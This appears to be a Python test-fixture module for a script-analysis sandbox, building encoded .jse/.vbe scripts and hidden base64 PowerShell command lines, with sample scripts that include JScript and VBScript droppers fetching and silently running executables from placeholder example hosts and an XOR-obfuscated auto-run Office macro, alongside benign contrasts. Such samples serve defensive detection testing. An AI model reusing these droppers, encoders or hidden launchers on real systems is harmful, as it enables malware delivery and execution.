"""Builders of scripts that are run in the traced world. What they name does not exist."""

from __future__ import annotations

import base64

from workers.sandbox import encoded_script as tables


def encoded(text: str) -> bytes:
    """The script as Windows Script Host has it in .jse and .vbe files."""
    back: list[dict[int, int]] = [{} for _ in range(3)]
    for code, place in tables._PLACES.items():
        for alphabet in range(3):
            if code not in tables._UNCHANGED:
                back[alphabet][tables._ALPHABETS[place + alphabet]] = code
    escapes = {value: key for key, value in tables._LITERAL.items()}
    out, turn = [], -1
    for character in text:
        turn += ord(character) < 128
        code = back[tables._TURNS[turn % 64]].get(ord(character))
        out.append(escapes.get(character) or (character if code is None else chr(code)))
    return f"{tables.BEGIN}AAAAAA=={''.join(out)}AAAAAA=={tables.END}".encode()


def powershell(command: str, options: str = "-nop -w hidden -enc") -> str:
    """A command line with the command in base64."""
    return f"powershell.exe {options} {base64.b64encode(command.encode('utf-16-le')).decode()}"


FETCHES = (
    'var x = WScript.CreateObject("MSXML2.XMLHTTP"); x.Open("GET", "http://" + ["a", "example"].join(".") + "/a.'
    'exe", 0);'
    "x.Send();"
)
DROPPER_JS = (
    'var s = new ActiveXObject("WScr" + "ipt.Shell");' + FETCHES + 'var f = new ActiveXObject("ADODB.Stream");'
    'f.Open(); f.Type = 1; f.Write(x.ResponseBody); var p = s.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe";'
    "f.SaveToFile(p, 2); s.Run(p, 0); WScript.Quit();"
).encode()
DROPPER_VBS = (
    b'Dim p\r\nSet x = CreateObject(StrReverse("PTTHLMX.2LMXSM"))\r\nx.Open "GET", "http://b.example/b.exe", False\r\n'
    b'x.Send\r\nSet f = CreateObject("ADODB.Stream") : f.Open : f.Write x.responseBody\r\n'
    b'p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\b.exe"\r\nf.SaveToFile p, 2\r\n'
    b'CreateObject("WScript.Shell").Run p, 0, False\r\n'
)
MACRO = (
    "Function dec(a)\n  For i = 0 To UBound(a)\n    dec = dec & Chr(a(i) Xor 7)\n  Next\nEnd Function\n"
    'Sub Document_Open()\n  Shell dec(Array(100,106,99,41,98,127,98)) & " /c start http://c.example/x", vbHide\n'
    "End Sub\n"
)
LIBRARY_JS = (
    b"(function(g,f){typeof module==='object'?module.exports=f():g.lib=f()})(this,function(){'use strict';"
    b"var t=new Function('return this')();function get(u){var x=new XMLHttpRequest();x.open('GET',u);x.send();}"
    b"get('/settings.json');document.addEventListener('DOMContentLoaded',function(){document.title='ready'});"
    b"return {get:get,render:function(s){return eval('('+s+')')}}});"
)
MAPS_DRIVES = (
    b'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "H:", "\\\\server\\home"\r\n'
    b'CreateObject("WScript.Shell").Run "explorer.exe H:\\"\r\nMsgBox "Drives are mapped for " & n.UserName\r\n'
)
ADMIN_PS1 = (
    b"# Lists the services of a server\r\n$name = 'print' + 'er'\r\nGet-Service -Name $name | Sort-Object Status\r\n"
    b'$report = "Services of $env:COMPUTERNAME"\r\nWrite-Host $report\r\nGet-ChildItem C:\\Logs | Remove-Item -W'
    b"hatIf\r\n"
)
